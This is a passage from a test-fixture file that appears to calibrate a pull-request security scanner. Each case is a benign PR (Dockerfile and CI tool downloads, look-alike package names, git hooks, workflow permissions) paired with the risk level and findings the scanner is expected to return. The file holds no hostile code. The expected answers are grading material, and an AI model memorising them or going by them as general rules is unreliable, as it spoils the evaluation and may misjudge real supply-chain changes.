        path: 'src/pr-checkout-guard.ts',
        base: lines('export function assertSafeCheckout(event: string, optIn: boolean): void {', "  if (event !== 'pull_request_target' || optIn) return", '  throw new Error(', '    `Checking out the pull request head in a privileged ` +', '      `context is risky. To opt in after reading the guide, set ` +', "      `'allow-pr-head: true' on the step.`", '  )', '}'),
        head: lines('export function assertSafeCheckout(event: string, optIn: boolean): void {', "  if (event !== 'pull_request_target' || optIn) return", '  throw new Error(', '    `Checking out the pull request head in a privileged ` +', '      `context is risky. To opt in, read the guide and set ` +', "      `'allow-pr-head: true' on the step.`", '  )', '}'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-nix-dev-shell-and-justfile',
    description:
      'A maintainer adds a Nix development shell (inputs, packages, a shellHook that puts node_modules/.bin on PATH) and a justfile whose recipes run the tests and fetch a tool release at a version: ordinary developer tooling, no build-code finding.',
    repo: 'hookrelay',
    title: 'chore: nix dev shell and justfile',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'flake.nix',
        head: lines(
          '{',
          '  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";',
          '  outputs = { self, nixpkgs }: let pkgs = nixpkgs.legacyPackages.x86_64-linux; in {',
          '    devShells.x86_64-linux.default = pkgs.mkShell {',
          '      packages = [ pkgs.nodejs_22 pkgs.pnpm ];',
          "      shellHook = ''",
          '        export PATH="$PWD/node_modules/.bin:$PATH"',
          '        echo "node $(node --version)"',
          "      '';",
          '    };',
          '  };',
          '}',
        ),
      },
      {
        path: 'justfile',
        head: lines(
          'test:',
          '    pnpm test',
          '',
          'tools:',
          '    curl -sSfLo bin/actionlint.tgz https://github.com/rhysd/actionlint/releases/download/v1.7.4/actionlint_1.7.4_linux_amd64.tar.gz',
          '    tar xzf bin/actionlint.tgz -C bin actionlint',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  pr({
    id: 'cal-dockerfile-tools-and-secret-mount',
    description:
      'A maintainer reworks the Dockerfile: npm ci with the registry token from a BuildKit secret mount, kubectl fetched at a version and made executable, the health probe from its latest release: ordinary image build work, no build-code finding.',
    repo: 'pipelines',
    title: 'build: multi-stage Dockerfile with secret mounts',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Dockerfile',
        base: lines('FROM node:22-alpine', 'WORKDIR /app', 'COPY . .', 'RUN npm ci', 'CMD ["node", "server.js"]'),
        head: lines(
          'FROM node:22-alpine AS build',
          'WORKDIR /app',
          'COPY package*.json ./',
          'RUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci',
          'COPY . .',
          'RUN npm run build',
          '',
          'FROM node:22-alpine',
          'RUN curl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x /usr/local/bin/kubectl',
          'RUN wget -qO /bin/grpc_health_probe https://github.com/grpc-ecosystem/grpc-health-probe/releases/latest/download/grpc_health_probe-linux-amd64 && chmod +x /bin/grpc_health_probe',
          'COPY --from=build /app/dist /app',
          'CMD ["node", "/app/server.js"]',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  pr({
    id: 'cal-ci-python-index-from-settings',
    description:
      "A maintainer's CI installs from the organization's index, passed in from a repository variable, pins pip to PyPI explicitly, narrows versions with a constraints file from a release tag, runs tools by registry name (`npx -p typescript`, `go get ./...`) and publishes to GitHub Packages: none of it adds a host or a moving source.",
    repo: 'pipelines',
    title: 'ci: install from the internal index',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt', '      - run: pytest'),
        head: lines(
          'name: test',
          'on: [push, pull_request]',
          'jobs:',
          '  test:',
          '    runs-on: ubuntu-latest',
          '    env:',
          '      PIP_INDEX_URL: ${{ vars.PIP_INDEX_URL }}',
          '    steps:',
          '      - uses: actions/checkout@v4',
          '      - run: pip install --index-url https://pypi.org/simple -r requirements.txt -c https://raw.githubusercontent.com/apache/airflow/constraints-2.10.2/constraints-3.12.txt',
          '      - run: pip install --extra-index-url "$INTERNAL_INDEX" pipelines-internal==2.4.1',
          '      - run: npx -p typescript@5.6.3 tsc --noEmit',
          '      - run: go get ./... && go build ./...',
          '      - run: npm publish --registry https://npm.pkg.github.com',
          '      - run: pytest',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pip-extra-index', 'finding:gha-unpinned-tool', 'finding:remote-package-install', 'finding:npm-registry-override'] },
  }),
  pr({
    id: 'cal-npm-vendor-tarball-dependency',
    description:
      "A maintainer moves xlsx to the vendor's own CDN tarball, as SheetJS tells its users to (it no longer publishes to npm): a URL dependency worth a note, a versioned package file, not an endpoint.",
    repo: 'pipelines',
    title: 'deps: xlsx from the SheetJS CDN',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'pipelines-web', version: '3.2.0', dependencies: { xlsx: '^0.18.5' } }),
        head: packageJson({ name: 'pipelines-web', version: '3.2.0', dependencies: { xlsx: 'https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz' } }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  pr({
    id: 'cal-dockerfile-torch-cpu-wheels',
    description:
      "A maintainer slims the inference image: PyTorch's CPU wheels from PyTorch's own index (its documented install command), the rest from PyPI. The vendor's index is worth a note, not a block.",
    repo: 'pipelines',
    title: 'build: CPU-only torch in the inference image',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Dockerfile',
        base: lines('FROM python:3.12-slim', 'WORKDIR /app', 'COPY requirements.txt .', 'RUN pip install --no-cache-dir torch==2.4.1 -r requirements.txt', 'COPY . .', 'CMD ["python", "serve.py"]'),
        head: lines(
          'FROM python:3.12-slim',
          'WORKDIR /app',
          'COPY requirements.txt .',
          'RUN pip install --no-cache-dir torch==2.4.1 --index-url https://download.pytorch.org/whl/cpu && \\',
          '    pip install --no-cache-dir --extra-index-url https://download.pytorch.org/whl/cpu -r requirements.txt',
          'COPY . .',
          'CMD ["python", "serve.py"]',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-continue-official-mcp-pinned',
    description:
      'A maintainer adds a Continue MCP server block for the official filesystem server, pinned to a version: the same note a pinned official server gets in .vscode/mcp.json.',
    repo: 'hookrelay',
    title: 'chore: filesystem MCP server for Continue',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.continue/mcpServers/filesystem.yaml',
        head: lines('name: filesystem', 'version: 0.0.1', 'schema: v1', 'mcpServers:', '  - name: filesystem', '    command: npx', '    args:', '      - -y', '      - "@modelcontextprotocol/server-filesystem@2025.8.21"', '      - .'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['agent-mcp-server'] },
  }),
  pr({
    id: 'cal-scoped-packages-of-other-orgs',
    description:
      "A maintainer adds TanStack Query's core, the Vite React plugin and a package of the @typed organization: scopes of their own, some a letter away from popular ones (@typed beside @types). No typosquat.",
    repo: 'mapwidget',
    title: 'feat: data layer with TanStack Query',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'mapwidget', version: '1.8.0', dependencies: { react: '^18.3.1' } }),
        head: packageJson({ name: 'mapwidget', version: '1.8.0', dependencies: { react: '^18.3.1', '@tanstack/query-core': '^5.59.0', '@typed/fp': '^0.20.0' }, devDependencies: { '@vitejs/plugin-react': '^4.3.2' } }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  pr({
    id: 'cal-popular-package-one-slip-from-target',
    description:
      "A maintainer adds GetStream's official client (`getstream`, a letter away from `get-stream`) and `text-diff` for a feed's change view: popular packages of their own with their own descriptions. No typosquat.",
    repo: 'feedline',
    title: 'feat: activity feed with change view',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'feedline', version: '2.1.0', dependencies: { express: '^4.21.1' } }),
        head: packageJson({ name: 'feedline', version: '2.1.0', dependencies: { express: '^4.21.1', getstream: '^8.4.1', 'text-diff': '^1.0.1' } }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  pr({
    id: 'cal-pypi-popular-project-one-slip-from-target',
    description:
      "A maintainer of a DNS automation tool adds Google's Cloud DNS client (`google-cloud-dns`, two letters from `google-cloud-kms`) and `elasticsearch7` for its audit log: popular projects of their own. No typosquat.",
    repo: 'zonekeeper',
    title: 'feat: Cloud DNS backend and audit log',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'requirements.txt',
        base: lines('dnspython==2.7.0', 'click==8.1.7'),
        head: lines('dnspython==2.7.0', 'click==8.1.7', 'google-cloud-dns==0.35.0', 'elasticsearch7==7.17.12'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  pr({
    id: 'cal-react-app-adds-packages-named-like-others',
    description:
      "A maintainer of a Preact app adds `preact-router` (two letters from `react-router`), `react-list` for a long table (`react-is` with one short word changed) and `sax-stream` to read an XML export: established packages of their own. No typosquat.",
    repo: 'tableau-lite',
    title: 'feat: routed views, virtual list and XML import',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'tableau-lite', version: '0.9.0', dependencies: { preact: '^10.24.3' } }),
        head: packageJson({ name: 'tableau-lite', version: '0.9.0', dependencies: { preact: '^10.24.3', 'preact-router': '^4.1.2', 'react-list': '^0.8.17', 'sax-stream': '^1.3.0' } }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  pr({
    id: 'cal-cdk-v1-construct-added',
    description:
      'An infrastructure app on AWS CDK v1 adds the SQS and SNS construct libraries: @aws-cdk is an organization of its own (only its owner publishes there), a letter away from @aws-sdk. No typosquat.',
    repo: 'orders-infra',
    title: 'feat: queue for order events',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'orders-infra', version: '0.4.0', dependencies: { '@aws-cdk/core': '1.204.0', '@aws-cdk/aws-lambda': '1.204.0', constructs: '^3.4.0' } }),
        head: packageJson({ name: 'orders-infra', version: '0.4.0', dependencies: { '@aws-cdk/core': '1.204.0', '@aws-cdk/aws-lambda': '1.204.0', '@aws-cdk/aws-sqs': '1.204.0', '@aws-cdk/aws-sns': '1.204.0', constructs: '^3.4.0' } }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
  }),
  pr({
    id: 'cal-bazel-protoc-repository-rule',
    description:
      'A maintainer moves to Bzlmod and adds a repository rule that fetches protoc from its release page with a checksum and makes it executable: ordinary Bazel, no build-code finding.',
    repo: 'pipelines',
    title: 'build: Bzlmod and a protoc repository rule',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'MODULE.bazel', head: lines('module(name = "pipelines", version = "1.0")', 'bazel_dep(name = "rules_go", version = "0.50.1")', 'bazel_dep(name = "gazelle", version = "0.39.1")', 'protoc = use_repo_rule("//third_party:protoc.bzl", "protoc_repo")', 'protoc(name = "protoc")') },
      {
        path: 'third_party/protoc.bzl',
        head: lines(
          'def _protoc_impl(rctx):',
          '    rctx.download_and_extract(',
          '        url = "https://github.com/protocolbuffers/protobuf/releases/download/v28.2/protoc-28.2-linux-x86_64.zip",',
          '        sha256 = "2febfd42b59ce93a28eb789019a470a3dd0449619bc04f84dad1333da261dec1",',
          '    )',
          '    rctx.execute(["chmod", "+x", "bin/protoc"])',
          '    rctx.file("BUILD.bazel", "exports_files([\\"bin/protoc\\"])")',
          '',
          'protoc_repo = repository_rule(implementation = _protoc_impl)',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  pr({
    id: 'cal-husky-hook-checks-npm-login',
    description:
      "A maintainer's husky pre-push hook reminds whoever has not logged in to npm (it tests that ~/.npmrc exists) and runs the tests: a credential store named, nothing sent. Its git-hook-command finding stays low, as any new hook's; the new hook path makes the PR medium at most.",
    repo: 'mapwidget',
    title: 'chore: pre-push checks',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: '.husky/pre-push', head: lines('test -f ~/.npmrc || echo "npm: run npm login before publishing"', 'npm test') }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['git-hook-command'] },
  }),
  pr({
    id: 'cal-c-read-loop-assigns-in-condition',
    description:
      "A maintainer's C reader loops on `while ((n = read(fd, buf, sizeof buf)) > 0)` and returns `if ((err = flush(out)))`: assignments inside conditions that are C's idioms (a call's result, compared or tested), not a constant assigned.",
    repo: 'tarlite',
    title: 'reader: loop until EOF',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/reader.c',
        base: lines('int copy_all(int fd, struct out *out)', '{', '\treturn flush(out);', '}'),
        head: lines('int copy_all(int fd, struct out *out)', '{', '\tchar buf[4096];', '\tssize_t n;', '\tint err;', '\twhile ((n = read(fd, buf, sizeof buf)) > 0)', '\t\tout_write(out, buf, n);', '\tif ((err = flush(out)))', '\t\treturn err;', '\treturn n < 0 ? -1 : 0;', '}'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:assignment-in-condition'] },
  }),
  pr({
    id: 'cal-or-true-in-scripts-and-defaults',
    description:
      "A maintainer's release script ignores a missing tag with `git tag -d v1 || true`, and the CLI gives an option a default with `opts.color || true`: shell's idiom and a default value, no check that always passes.",
    repo: 'mapwidget',
    title: 'chore: release script and color default',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'scripts/release.sh', base: lines('#!/usr/bin/env bash', 'set -e', 'npm publish'), head: lines('#!/usr/bin/env bash', 'set -e', 'git tag -d "v$VERSION" 2>/dev/null || true', 'rm -rf dist || true', 'npm publish') },
      { path: 'src/cli.js', base: lines('function options(opts) {', '  return { color: opts.color };', '}'), head: lines('function options(opts) {', '  const color = opts.color || true;', '  return { color };', '}') },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:auth-bypass-added'] },
  }),
  pr({
    id: 'cal-trace-toggle-and-false',
    description: "A maintainer switches a renderer's frame trace off with `if (process.env.TRACE && false)`: a debugging toggle in ordinary code, dead code rather than a check bypassed.",
    repo: 'mapwidget',
    title: 'render: silence frame trace',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: 'src/render.js', base: lines('export function draw(frame) {', '  if (process.env.TRACE) console.log(frame.id);', '  paint(frame);', '}'), head: lines('export function draw(frame) {', '  if (process.env.TRACE && false) console.log(frame.id);', '  paint(frame);', '}') }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:auth-bypass-added'] },
  }),
  pr({
    id: 'cal-seed-admin-account',
    description: "A maintainer's development seed creates the first account as an admin (role 'user' to 'admin' in db/seeds.rb): a seed, where a privileged account is the point.",
    repo: 'docshelf',
    title: 'seeds: first account is an admin',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: 'db/seeds.rb', base: lines("User.create!(email: 'dev@example.com', password: 'password', role: 'user')"), head: lines("User.create!(email: 'dev@example.com', password: 'password', role: 'admin')") }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:privileged-default-raised'] },
  }),
  pr({
    id: 'cal-rust-bound-tightened',
    description: "A maintainer fixes an off-by-one in a Rust slice accessor, `if i <= self.len` to `if i < self.len`: a bound tightened, not loosened.",
    repo: 'ringlib',
    title: 'fix: off-by-one in get',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/ring.rs',
        base: lines('    pub fn get(&self, i: usize) -> Option<u8> {', '        if i <= self.len { Some(self.buf[i]) } else { None }', '    }'),
        head: lines('    pub fn get(&self, i: usize) -> Option<u8> {', '        if i < self.len { Some(self.buf[i]) } else { None }', '    }'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:bounds-check-loosened'] },
  }),
  pr({
    id: 'cal-benchmarks-folder-removed',
    description:
      "A maintainer deletes a web framework's old benchmarks folder (a Makefile, a README, a middleware script and a runner): a harness that measures speed and checks nothing, so no tests are deleted; CI green.",
    repo: 'switchyard',
    title: 'chore: remove benchmarks directory',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'benchmarks/Makefile', base: lines('all:', '\t@./run 1 middleware', '\t@./run 10 middleware', '.PHONY: all') },
      { path: 'benchmarks/README.md', base: lines('# Benchmarks', '', 'Run `make` to measure requests per second with 1 and 10 middleware.') },
      { path: 'benchmarks/middleware.js', base: lines("const switchyard = require('..');", 'const app = switchyard();', 'const n = Number(process.env.MW || 1);', 'for (let i = 0; i < n; i++) app.use((req, res, next) => next());', "app.get('/', (req, res) => res.send('ok'));", 'app.listen(3333);') },
      { path: 'benchmarks/run', base: lines('#!/usr/bin/env bash', 'MW=$1 node ./middleware.js &', 'pid=$!', 'sleep 1', 'wrk http://localhost:3333/ -d 3 -c 50 -t 8', 'kill $pid') },
    ],
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-pre-commit-hooks-added-from-listed-repos',
    description:
      "A maintainer moves pre-commit's revs and turns on three more hooks that the already-listed pre-commit-hooks repository publishes, renaming ruff's hook to ruff-check as its new rev asks: the same repositories' own code, nothing new runs from elsewhere; CI green.",
    repo: 'parcel-http',
    title: 'Update pre-commit versions',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.pre-commit-config.yaml',
        base: lines("exclude: 'docs/'", '', 'repos:', '- repo: https://github.com/pre-commit/pre-commit-hooks', '  rev: v4.4.0', '  hooks:', '  - id: check-yaml', '  - id: trailing-whitespace', '- repo: https://github.com/astral-sh/ruff-pre-commit', '  rev: v0.9.3', '  hooks:', '    - id: ruff', '      args: [--fix]', '    - id: ruff-format'),
        head: lines("exclude: 'docs/'", '', 'repos:', '- repo: https://github.com/pre-commit/pre-commit-hooks', '  rev: v6.0.0', '  hooks:', '  - id: check-merge-conflict', '  - id: check-toml', '  - id: check-yaml', '  - id: mixed-line-ending', '    args: [--fix=auto]', '  - id: trailing-whitespace', '- repo: https://github.com/astral-sh/ruff-pre-commit', '  rev: v0.15.9', '  hooks:', '    - id: ruff-check', '      args: [--fix]', '    - id: ruff-format'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-pre-commit-hook-dependency-dropped',
    description:
      "A maintainer drops a package from a spell-checking hook's additional_dependencies (the tool now reads its configuration itself) and makes the hook write its fixes; the same repository at the same pinned rev, the hook installs less: nothing new runs; CI green.",
    repo: 'parcel-http',
    title: 'Let the spelling hook write its fixes',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.pre-commit-config.yaml',
        base: lines('repos:', '- repo: https://github.com/codespell-project/codespell', '  rev: 2a84d6bf07e1a4d4e43e3e4cfb8a4a7e8f6f8f3a  # frozen: v2.3.0', '  hooks:', '  - id: codespell', '    additional_dependencies:', '    - tomli', "    - 'chardet==5.2.0'", '- repo: https://github.com/astral-sh/ruff-pre-commit', '  rev: v0.9.3', '  hooks:', '  - id: ruff'),
        head: lines('repos:', '- repo: https://github.com/codespell-project/codespell', '  rev: 2a84d6bf07e1a4d4e43e3e4cfb8a4a7e8f6f8f3a  # frozen: v2.3.0', '  hooks:', '  - id: codespell', "    args: ['--write-changes']", '    additional_dependencies:', "    - 'chardet==5.2.0'", '- repo: https://github.com/astral-sh/ruff-pre-commit', '  rev: v0.9.3', '  hooks:', '  - id: ruff'),
      },
      { path: 'docs/sessions.rst', base: lines('Sessions', '========', '', 'A session keeps cookies acrosss requests.'), head: lines('Sessions', '========', '', 'A session keeps cookies across requests.') },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-workflow-permissions-declared-for-lock-bot',
    description:
      "A maintainer writes a permissions block into a scheduled workflow that locks old issues and pull requests with a thread-locking action and so ran with the repository's default token: issues and pull-requests write, what the bot locks; the token handed to it explicitly is dropped (the action's default). Nothing new runs and the token can do less; CI green.",
    repo: 'parcel-http',
    title: 'Set workflow permissions',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/lock.yml',
        base: lines("name: 'Lock threads'", '', 'on:', '  schedule:', "    - cron: '0 0 * * *'", '', 'jobs:', '  lock:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: dessant/lock-threads@v4', '        with:', '          github-token: ${{ github.token }}', '          issue-inactive-days: 14', '          pr-inactive-days: 14'),
        head: lines("name: 'Lock threads'", '', 'on:', '  schedule:', "    - cron: '0 0 * * *'", '', 'permissions:', '  issues: write', '  pull-requests: write', '', 'concurrency:', '  group: lock', '', 'jobs:', '  lock:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: dessant/lock-threads@v4', '        with:', '          issue-inactive-days: 14', '          pr-inactive-days: 14'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-workflow-cache-key-from-toolchain-version',
    description:
      "A maintainer keys a lint job's hook cache on the interpreter's full version: a new step writes a digest of `python -VV` to GITHUB_ENV and the cache step's key reads it; the cache directory comes from `pip cache dir` through a step output. Nothing new runs but the interpreter asked its version; CI green.",
    repo: 'parcel-http',
    title: 'Fix the hook cache key in CI',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/lint.yml',
        base: lines('name: lint', 'on: [push, pull_request]', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-python@42375524e23c412d93fb67b49958b491fce71c38 # v5.4.0', '        with:', "          python-version: '3.13'", '      - uses: actions/cache@d4323d4df104b026a6aa633fdb11d772146be0bf # v4.2.2', '        with:', '          path: ~/.cache/pre-commit', "          key: hooks|${{ hashFiles('.pre-commit-config.yaml') }}", '      - run: pip install pre-commit', '      - run: pre-commit run --all-files'),
        head: lines('name: lint', 'on: [push, pull_request]', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-python@42375524e23c412d93fb67b49958b491fce71c38 # v5.4.0', '        with:', "          python-version: '3.13'", '      - name: Interpreter digest for the cache key', '        id: facts', '        run: |', '          echo "PY=$(python -VV | sha256sum | cut -d\' \' -f1)" >> "$GITHUB_ENV"', '          echo "pip-dir=$(pip cache dir)" >> "$GITHUB_OUTPUT"', '      - uses: actions/cache@d4323d4df104b026a6aa633fdb11d772146be0bf # v4.2.2', '        with:', '          path: |', '            ~/.cache/pre-commit', '            ${{ steps.facts.outputs.pip-dir }}', "          key: hooks|${{ env.PY }}|${{ hashFiles('.pre-commit-config.yaml') }}", '      - run: pip install pre-commit', '      - run: pre-commit run --all-files'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-workflow-adds-cache-of-same-account',
    description:
      "A maintainer adds `actions/cache@v4` (by tag, as the workflow already follows `actions/checkout@v4` and `actions/setup-python@v5`) to cache pip downloads in a push/pull_request test job: GitHub's own account already ran code in the job; no trigger, permission or secret changes; CI green.",
    repo: 'parcel-wheels',
    title: 'ci: cache pip downloads',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', '        with:', "          python-version: '3.13'", '      - run: pip install -e . pytest', '      - run: pytest'),
        head: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', '        with:', "          python-version: '3.13'", '      - uses: actions/cache@v4', '        with:', '          path: ~/.cache/pip', "          key: pip-${{ hashFiles('pyproject.toml') }}", '      - run: pip install -e . pytest', '      - run: pytest'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-compiled-requirements-transitive-moves',
    description:
      "A maintainer regenerates pip-compile's requirements/base.txt: django moves a patch release, and the pins the resolver chose for it move with it (sqlparse 0.4.4 to 0.5.0, a new typing-extensions for asgiref), as a lockfile's transitive packages do; `# via` says who asked. CI green.",
    repo: 'ledger-web',
    title: 'Update pinned requirements',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'requirements/base.txt',
        base: lines('#', '# This file is autogenerated by pip-compile with Python 3.12', '# by the following command:', '#', '#    pip-compile requirements/base.in', '#', 'asgiref==3.7.2', '    # via django', 'django==4.2.9', '    # via -r requirements/base.in', 'sqlparse==0.4.4', '    # via django'),
        head: lines('#', '# This file is autogenerated by pip-compile with Python 3.12', '# by the following command:', '#', '#    pip-compile requirements/base.in', '#', 'asgiref==3.8.1', '    # via django', 'django==4.2.11', '    # via -r requirements/base.in', 'sqlparse==0.5.0', '    # via django', 'typing-extensions==4.10.0', '    # via asgiref'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['major-updates'] },
  }),
  pr({
    id: 'cal-compiled-requirements-direct-major',
    description:
      "The same compiled file, but the pin that moves a major is one the input file asks for (`# via -r requirements/base.in`): a direct runtime dependency's breaking release, weighed as one.",
    repo: 'ledger-web',
    title: 'Update Django to 5.0',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'requirements/base.txt',
        base: lines('#', '# This file is autogenerated by pip-compile with Python 3.12', '# by the following command:', '#', '#    pip-compile requirements/base.in', '#', 'asgiref==3.7.2', '    # via django', 'django==4.2.9', '    # via -r requirements/base.in'),
        head: lines('#', '# This file is autogenerated by pip-compile with Python 3.12', '# by the following command:', '#', '#    pip-compile requirements/base.in', '#', 'asgiref==3.7.2', '    # via django', 'django==5.0.3', '    # via -r requirements/base.in'),
      },
    ],
    checks: GREEN_PY,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], drivers: ['major-updates'] },
  }),
  pr({
    id: 'cal-release-step-asks-go-proxy',
    description:
      "A maintainer of a Go library adds a last step to the tag-push release workflow that asks the Go module proxy for the new version (a GET of proxy.golang.org for the repository's module at the pushed tag), so that pkg.go.dev lists the release: no data sent, nothing written or run from it; CI green.",
    repo: 'switchyard-go',
    title: 'build: refresh pkg.go.dev after a release',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/release.yml',
        base: lines('name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '        with:', '          fetch-depth: 0', '      - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0', '        with:', '          args: release --clean', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}'),
        head: lines('name: release', 'on:', '  push:', "    tags: ['v*']", 'permissions:', '  contents: write', 'jobs:', '  release:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '        with:', '          fetch-depth: 0', '      - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0', '        with:', '          args: release --clean', '        env:', '          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}', '', '      - name: Refresh the module index', '        run: |', '          echo "Asking proxy.golang.org for the new release"', '          curl -sSf "https://proxy.golang.org/github.com/${GITHUB_REPOSITORY,,}/@v/${GITHUB_REF_NAME}.info"'),
      },
    ],
    checks: GREEN_GO,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-maintainer-test-step-preloads-module',
    description:
      "A maintainer adds a test step that runs the workflow's own `npm test` with NODE_OPTIONS=--require pointing at a script the PR adds: the command is known, the preload is not (every node process of the step loads that file first). Not a routine command edit: medium.",
